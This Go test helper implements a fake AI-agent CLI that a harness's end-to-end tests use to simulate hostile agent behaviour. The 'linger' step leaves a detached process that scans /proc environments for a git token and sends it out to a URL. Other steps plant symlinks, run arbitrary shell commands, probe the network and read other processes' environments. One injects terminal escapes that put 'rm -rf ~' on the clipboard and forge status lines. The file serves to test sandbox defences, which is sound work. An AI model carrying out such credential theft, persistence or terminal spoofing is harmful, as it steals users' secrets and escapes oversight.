package agenttest

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// FakeMain is a fake agent CLI for end-to-end tests. It writes its output
// in the format of the agent its executable is named after (claude, codex,
// gemini, copilot, cursor-agent, opencode; any other name writes plain
// text), reads the prompt from stdin (or copilot's -p argument), and plays
// one step of FAKE_PLAN per invocation, counting invocations in
// .fake-agent-n in its working directory (in $FAKE_STATE_DIR when set, to
// leave the workspace untouched). Steps, comma-separated:
//
//	none          narration, the prompt echoed in a tool result, no promise
//	complete      final message ends with <promise>COMPLETE</promise>
//	blocked:WHY   final message ends with <promise>BLOCKED:WHY</promise>
//	decide:Q      final message ends with <promise>DECIDE:Q</promise>
//	fence         the promise only inside a code fence
//	tick          marks the first open task of .ralph/tasks.md done
//	fail          terminal error event, exit 1
//	crash         stream cut before its terminal event, exit 0
//	limit[:S]     the agent's own rate-limit events (reset in S seconds), exit 1
//	limitprose    "rate limit" only in a tool result; a normal run
//	exit:N        exits N after a normal stream
//	sleep:S       sleeps S seconds first (then as none)
//	stubborn:S    ignores SIGINT and SIGTERM, then sleeps S seconds
//	write:FILE    writes FILE in the working directory (then as none)
//	sh:SCRIPT     runs sh -c SCRIPT in the working directory, its output
//	              in a tool result (then as none)
//	fetch:URL     GET through the proxy variables, result appended to .fake-agent-net
//	dial:HOST:PORT a direct TCP connection (no proxy), result appended likewise
//	dns:NAME      a DNS lookup, result appended likewise
//	try-write:PATH opens PATH for writing (never writes), result appended likewise
//	linger:URL    leaves a process behind that, for a minute, looks for
//	              RALPH_GIT_TOKEN in every /proc/*/environ it can read and
//	              GETs URL/<token> through the proxy when it finds it
//	try-read:GLOB reads every file GLOB matches and appends, one line each,
//	              whether it could and whether it holds "RALPH_GIT_TOKEN"
//
// The last step repeats. With FAKE_RECORD=1 it appends its argv and the
// names of its environment variables to .fake-agent-argv as JSON lines.
func FakeMain() int {
	if u := os.Getenv("FAKE_LINGER"); u != "" {
		return linger(u)
	}
	name := filepath.Base(os.Args[0])
	format := strings.TrimSuffix(name, "-agent")
	prompt := ""
	if format == "copilot" {
		for i, a := range os.Args {
			if a == "-p" && i+1 < len(os.Args) {
				prompt = os.Args[i+1]
			}
		}
	} else {
		b, _ := io.ReadAll(os.Stdin)
		prompt = string(b)
	}
	counter := ".fake-agent-n"
	if d := os.Getenv("FAKE_STATE_DIR"); d != "" {
		counter = filepath.Join(d, "fake-agent-n") // outside the workspace
	}
	n := 0
	if b, err := os.ReadFile(counter); err == nil {
		n, _ = strconv.Atoi(strings.TrimSpace(string(b)))
	}
	os.WriteFile(counter, []byte(strconv.Itoa(n+1)), 0o644)
	if os.Getenv("FAKE_RECORD") == "1" {
		var names []string
		for _, kv := range os.Environ() {
			k, _, _ := strings.Cut(kv, "=")
			names = append(names, k)
		}
		rec, _ := json.Marshal(map[string]any{"argv": os.Args, "env": names, "uid": os.Getuid()})
		f, err := os.OpenFile(".fake-agent-argv", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
		if err == nil {
			f.Write(append(rec, '\n'))
			f.Close()
		}
	}
	plan := strings.Split(os.Getenv("FAKE_PLAN"), ",")
	step := strings.TrimSpace(plan[min(n, len(plan)-1)])
	kind, arg, _ := strings.Cut(step, ":")

	s := Script{
		Narration:   []string{fmt.Sprintf("Iteration %d: reading the task list.", n+1)},
		ToolOutputs: []string{prompt},
		Final:       fmt.Sprintf("Did one task in iteration %d.", n+1),
	}
	code := 0
	switch kind {
	case "complete":
		s.Final += "\n\n<promise>COMPLETE</promise>"
	case "blocked":
		s.Final += "\n\n<promise>BLOCKED:" + arg + "</promise>"
	case "decide":
		s.Final += "\n\n<promise>DECIDE:" + arg + "</promise>"
	case "fence":
		s.Final += "\n\n```\n<promise>COMPLETE</promise>\n```"
	case "tick":
		tick(".ralph/tasks.md")
	case "fail":
		s.Fail, code = "API Error: 500 Internal Server Error", 1
		fmt.Fprintln(os.Stderr, "Error: API Error: 500")
	case "crash":
		s.NoTerminal = true
	case "limit":
		s.Limited, code = true, 1
		if sec, err := strconv.Atoi(arg); err == nil {
			s.ResetAt = time.Now().Add(time.Duration(sec) * time.Second)
		}
	case "limitprose":
		s.ToolOutputs = append(s.ToolOutputs, "Error: rate limit exceeded, usage limit reached (429)")
	case "exit":
		code, _ = strconv.Atoi(arg)
	case "stubborn":
		signal.Ignore(syscall.SIGINT, syscall.SIGTERM)
		sec, _ := strconv.ParseFloat(arg, 64)
		time.Sleep(time.Duration(sec * float64(time.Second)))
	case "sleep":
		sec, _ := strconv.ParseFloat(arg, 64)
		time.Sleep(time.Duration(sec * float64(time.Second)))
	case "write":
		os.WriteFile(arg, []byte("written by the fake agent\n"), 0o644)
	case "sh":
		out, err := exec.Command("sh", "-c", arg).CombinedOutput()
		s.ToolOutputs = append(s.ToolOutputs, fmt.Sprintf("%s(%v)", out, err))
	case "link":
		// link:TARGET>NAME plants a symlink, as a hostile agent would.
		target, name, _ := strings.Cut(arg, ">")
		os.Remove(name)
		os.Symlink(target, name)
	case "fifo":
		os.Remove(arg)
		mkfifo(arg)
	case "append":
		// append:PATH>LINE appends LINE to PATH.
		path, line, _ := strings.Cut(arg, ">")
		if f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
			fmt.Fprintln(f, strings.ReplaceAll(line, `\t`, "\t"))
			f.Close()
		}
	case "config":
		// config:LINE appends LINE to .ralph/config.toml.
		if f, err := os.OpenFile(".ralph/config.toml", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
			fmt.Fprintln(f, arg)
			f.Close()
		}
	case "escapes":
		// Terminal escapes everywhere the agent's words are shown: the
		// clipboard (OSC 52), the title (OSC 0), a forged ralph line.
		s.Narration = append(s.Narration, "copy \x1b]52;c;cm0gLXJmIH4=\x07 this")
		s.ToolOutputs = append(s.ToolOutputs, "\x1b[2K\rralph: COMPLETE after 1 iteration(s)")
		s.Final += "\n\n<promise>BLOCKED:need \x1b]0;pwned\x07 help\u202e</promise>"
	case "fetch", "dial", "dns", "try-write":
		netProbe(kind, arg)
	case "try-read":
		readProbe(arg)
	case "lingerers":
		// Count what earlier iterations left running (linger), as seen
		// from here, into .fake-agent-lingerers.
		n := 0
		paths, _ := filepath.Glob("/proc/[0-9]*/environ")
		for _, p := range paths {
			if b, err := os.ReadFile(p); err == nil && strings.Contains(string(b), "FAKE_LINGER=") {
				n++
			}
		}
		os.WriteFile(".fake-agent-lingerers", []byte(strconv.Itoa(n)+"\n"), 0o644)
	case "linger":
		// A process the agent leaves behind, in a session of its own.
		cmd := exec.Command(os.Args[0])
		cmd.Env = append(os.Environ(), "FAKE_LINGER="+arg)
		cmd.SysProcAttr = newSession()
		cmd.Start()
	}
	if err := Emit(os.Stdout, format, s); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 70
	}
	return code
}

var openBox = regexp.MustCompile(`(?m)^(\s*[-*+]\s+)\[ \]`)

func tick(path string) {
	b, err := os.ReadFile(path)
	if err != nil {
		return
	}
	done := false
	out := openBox.ReplaceAllStringFunc(string(b), func(m string) string {
		if done {
			return m
		}
		done = true
		return strings.Replace(m, "[ ]", "[x]", 1)
	})
	os.WriteFile(path, []byte(out), 0o644)
}

// linger is the left-behind process of the linger step: an agent's
// daemon waiting for a process that holds the git token (git pushing) to
// steal it.
func linger(url string) int {
	deadline := time.Now().Add(time.Minute)
	for time.Now().Before(deadline) {
		paths, _ := filepath.Glob("/proc/*/environ")
		for _, p := range paths {
			b, err := os.ReadFile(p)
			if err != nil {
				continue
			}
			for _, kv := range strings.Split(string(b), "\x00") {
				if tok, ok := strings.CutPrefix(kv, "RALPH_GIT_TOKEN="); ok && tok != "" {
					if resp, err := http.Get(url + "/" + tok); err == nil {
						resp.Body.Close()
					}
					return 0
				}
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	return 0
}

// readProbe reads what an agent might snoop on (other processes'
// environments) and records, per file, whether it could and whether a
// git token was there, in .fake-agent-net.
func readProbe(glob string) {
	f, err := os.OpenFile(".fake-agent-net", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return
	}
	defer f.Close()
	paths, _ := filepath.Glob(glob)
	for _, p := range paths {
		b, err := os.ReadFile(p)
		res := fmt.Sprintf("read %d bytes", len(b))
		if err != nil {
			res = "error " + err.Error()
		} else if strings.Contains(string(b), "RALPH_GIT_TOKEN") {
			res += " HOLDS RALPH_GIT_TOKEN"
		}
		fmt.Fprintf(f, "try-read %s: %s\n", p, res)
	}
}

// netProbe tries the network the way an agent would and records the
// outcome, one line per try, in .fake-agent-net.
func netProbe(kind, arg string) {
	var res string
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	switch kind {
	case "fetch":
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, arg, nil)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			res = "error " + err.Error()
			break
		}
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 200))
		resp.Body.Close()
		res = fmt.Sprintf("status %d %s", resp.StatusCode, strings.ReplaceAll(string(b), "\n", " "))
	case "dial":
		var d net.Dialer
		c, err := d.DialContext(ctx, "tcp", arg)
		if err != nil {
			res = "error " + err.Error()
			break
		}
		c.Close()
		res = "connected"
	case "try-write":
		f, err := os.OpenFile(arg, os.O_WRONLY, 0)
		if err != nil {
			res = "error " + err.Error()
			break
		}
		f.Close()
		res = "opened"
	case "dns":
		addrs, err := net.DefaultResolver.LookupHost(ctx, arg)
		if err != nil {
			res = "error " + err.Error()
			break
		}
		res = "resolved " + strings.Join(addrs, " ")
	}
	f, err := os.OpenFile(".fake-agent-net", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err == nil {
		fmt.Fprintf(f, "%s %s: %s\n", kind, arg, res)
		f.Close()
	}
}
